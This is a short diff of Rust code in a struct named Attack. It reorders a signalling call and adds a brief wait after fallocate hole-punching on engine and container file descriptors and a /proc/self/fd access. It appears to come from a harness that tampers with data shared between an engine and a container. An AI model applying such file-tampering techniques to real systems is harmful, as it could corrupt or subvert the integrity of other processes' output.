@@ -200,7 +200,6 @@ impl Attack {
                 for fd in [&lane.request_data, &lane.engine_out, &lane.container_out] {
                     println!("punched: {:?}", fallocate(fd, page, 0, 4096));
                 }
-                lane.ring();
             }
             _ => {
                 let path = format!("/proc/self/fd/{}", raw(&lane.engine_out));
@@ -210,6 +209,9 @@ impl Attack {
                 // The honest part of the engine's words is gone; carry on from our own record.
             }
         }
+        // The engine is to look before an answer grows the segment again.
+        lane.ring();
+        std::thread::park_timeout(Duration::from_millis(20));
         lane.answer(request);
     }
 
